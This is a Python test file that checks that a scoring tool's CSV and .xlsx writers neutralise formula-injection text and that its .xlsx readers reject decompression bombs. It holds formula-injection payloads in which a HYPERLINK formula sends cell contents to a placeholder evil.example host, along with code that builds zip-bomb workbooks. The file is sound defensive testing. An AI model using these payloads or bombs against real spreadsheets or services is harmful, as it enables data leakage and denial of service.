"""One writer and one guard for every spreadsheet: formula-like text is inert in every output (the batch
command's CSV and .xlsx, the workspace exports), and every .xlsx read (the batch command's input, the
workspace import) passes the same decompression-bomb guard, bounding unpacked size, ratio and cells.

Before issue 11 the batch command wrote pass-through columns and headings raw (openpyxl made
`=HYPERLINK(...)` a live formula) and read .xlsx with no guard at all."""

from __future__ import annotations

import ast
import io
import random
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from scoring.__main__ import main
from scoring.tables import (
    BATCH_LIMITS,
    FORMULA_START,
    IMPORT_LIMITS,
    TableError,
    check_xlsx,
    neutralise,
    write_csv,
    write_xlsx,
)
from store import spreadsheet
from store.errors import StoreError

ROOT = Path(__file__).resolve().parents[1]
PAYLOADS = [f'{p}HYPERLINK("http://evil.example/?x="&A1,"click")' for p in FORMULA_START] + ["=1+1", "@SUM(A1)", "-2+3"]


def _hostile_table() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "consumer_facing": ["true"] * len(PAYLOADS),
            "client_ref": PAYLOADS,
            "=HEADING()": PAYLOADS[::-1],
            "n": range(len(PAYLOADS)),
        }
    )


def _assert_inert_xlsx(data: bytes) -> None:
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    seen = 0
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)  # never a formula
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate  # text, and stays text when edited
                seen += 1
    assert seen >= len(PAYLOADS)
    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw and b"<f " not in raw


def _assert_inert_csv(text: str) -> None:
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    for value in [*frame.columns, *frame.to_numpy().ravel()]:
        assert not str(value).startswith(FORMULA_START), value
    assert "'=HEADING()" in frame.columns


def test_batch_output_neutralises_every_text_cell_and_heading(tmp_path, capsys):
    source = tmp_path / "in.csv"
    _hostile_table().to_csv(source, index=False)
    assert main(["batch", str(source), "-o", str(tmp_path / "out.csv"), "--no-progress"]) == 0
    assert main(["batch", str(source), "-o", str(tmp_path / "out.xlsx"), "--no-progress"]) == 0
    _assert_inert_csv((tmp_path / "out.csv").read_text(encoding="utf-8"))
    _assert_inert_xlsx((tmp_path / "out.xlsx").read_bytes())


def test_the_workspace_export_uses_the_same_writer_and_gives_the_same_cells(tmp_path, capsys):
    table = _hostile_table()
    _assert_inert_xlsx(spreadsheet.to_xlsx(table))
    _assert_inert_csv(spreadsheet.to_csv(table).decode("utf-8-sig"))
    from scoring.batch import write_table

    write_table(table, tmp_path / "t.xlsx")
    cells = lambda data: [[c.value for c in row] for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()]  # noqa: E731
    assert cells((tmp_path / "t.xlsx").read_bytes()) == cells(spreadsheet.to_xlsx(table))


def test_neutralise_covers_every_formula_start():
    for start in FORMULA_START:
        assert neutralise(f"{start}x") == f"'{start}x"
    assert neutralise("plain") == "plain" and neutralise(-1) == -1 and neutralise(None) is None


def _python_files(*packages: str) -> list[Path]:
    return [p for package in packages for p in sorted((ROOT / package).rglob("*.py")) if "migrations" not in p.parts]


def test_no_module_writes_a_table_but_the_one_writer():
    """CSV and .xlsx are written only in scoring/tables.py (the answers template, a form, is built in store)."""
    offenders = []
    for path in _python_files("questions", "scoring", "report", "store", "ui"):
        if path == ROOT / "scoring" / "tables.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            by_store = isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "spreadsheet"
            if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "to_excel", "ExcelWriter") and not by_store:
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {node.attr}")
            if isinstance(node, ast.Name) and node.id == "Workbook" and path != ROOT / "store" / "spreadsheet.py":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} Workbook")
            if isinstance(node, ast.Attribute) and node.attr in ("read_excel", "load_workbook"):
                if path not in (ROOT / "store" / "spreadsheet.py",):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} {node.attr}")
    assert offenders == []


def test_the_workspace_reads_a_workbook_only_after_the_guard():
    source = (ROOT / "store" / "spreadsheet.py").read_text(encoding="utf-8")
    body = source[source.index("def import_xlsx") :]
    assert body.index("check_xlsx(data)") < body.index("load_workbook(")


# -- decompression bombs ---------------------------------------------------------------------------------


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return out.getvalue()


def _sheet(rows: int, cols: int = 1) -> bytes:
    cells = "".join(f'<c r="{chr(65 + j)}{{r}}" t="inlineStr"><is><t>true</t></is></c>' for j in range(cols))
    body = "".join(f'<row r="{i}">{cells.replace("{r}", str(i))}</row>' for i in range(1, rows + 1))
    return (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'<row r="0"><c r="A0" t="inlineStr"><is><t>consumer_facing</t></is></c></row>{body}</sheetData></worksheet>'
    ).encode()


def _bomb_sheet(rows: int) -> bytes:
    """Rows with no cell references: each the same bytes, so the part compresses a thousand to one."""
    return (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row><c t="inlineStr"><is><t>consumer_facing</t></is></c></row>'
        + b'<row><c t="b"><v>1</v></c></row>' * rows
        + b"</sheetData></worksheet>"
    )


def _workbook(sheet: bytes, **extra: bytes) -> bytes:
    base = zipfile.ZipFile(io.BytesIO(spreadsheet.template_xlsx("en")))
    parts = {i.filename: base.read(i.filename) for i in base.infolist()}
    parts["xl/worksheets/sheet1.xml"] = sheet
    parts.update(extra)
    return _zip(parts)


def test_the_batch_reader_refuses_a_small_file_that_unpacks_to_hundreds_of_thousands_of_rows(tmp_path, capsys):
    bomb = _workbook(_bomb_sheet(200_000))
    assert len(bomb) < 150_000
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(bomb)
    assert main(["batch", str(path), "-o", str(tmp_path / "o.csv"), "--no-progress"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "zip bomb" in err, err


def test_the_batch_reader_bounds_the_cells_even_at_an_ordinary_ratio(tmp_path, capsys, monkeypatch):
    import scoring.tables as tables

    monkeypatch.setattr(tables, "BATCH_LIMITS", tables.XlsxLimits(**{**BATCH_LIMITS.__dict__, "max_cells": 1_000}))
    path = tmp_path / "many.xlsx"
    path.write_bytes(_workbook(_sheet(600, 2)))  # 1,200 cells, each with its own reference: no high ratio
    assert main(["batch", str(path), "-o", str(tmp_path / "o.csv"), "--no-progress"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "more than 1,000 cells" in err, err


def test_the_workspace_import_refuses_a_workbook_with_a_huge_shared_strings_part():
    """The attack of the issue: a few MB of workbook whose sharedStrings part unpacks to tens of MB at an
    unremarkable ratio, which openpyxl loads whole. Refused by the unpacked-size bound before any parsing."""
    rng = random.Random(7)
    words = [f"w{i:04d}" for i in range(3000)]
    strings = "".join(f"<si><t>{' '.join(rng.choices(words, k=12))}</t></si>" for _ in range(150_000)).encode()
    shared = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + strings + b"</sst>"
    data = _workbook(_sheet(5), **{"xl/sharedStrings.xml": shared})
    assert len(data) < IMPORT_LIMITS.max_bytes and len(shared) > IMPORT_LIMITS.max_unpacked
    assert len(shared) < 100 * len(data)  # an ordinary ratio: the ratio check alone would let it through
    with pytest.raises(StoreError, match="would unpack to") as err:
        spreadsheet.import_xlsx(data)
    assert "\n" not in str(err.value)


def test_the_workspace_import_bounds_the_cells():
    data = _workbook(_sheet(30_000, 2))
    with pytest.raises(StoreError, match="more than 50,000 cells"):
        spreadsheet.import_xlsx(data)


def test_both_paths_share_the_guard():
    """The same bomb is refused by the workspace import and by the batch reader, with the same reason."""
    bomb = _workbook(_bomb_sheet(200_000))
    with pytest.raises(StoreError) as workspace:
        spreadsheet.import_xlsx(bomb)
    with pytest.raises(TableError) as batch:
        check_xlsx(bomb, BATCH_LIMITS)
    assert workspace.value.key == batch.value.key == "table_bomb_ratio"


def test_a_table_wider_than_a_sheet_is_a_table_error():
    with pytest.raises(TableError, match="16,384"):
        write_xlsx({"x": pd.DataFrame([[1] * 16_385])})
    assert write_csv(pd.DataFrame([[1] * 16_385])) is not None
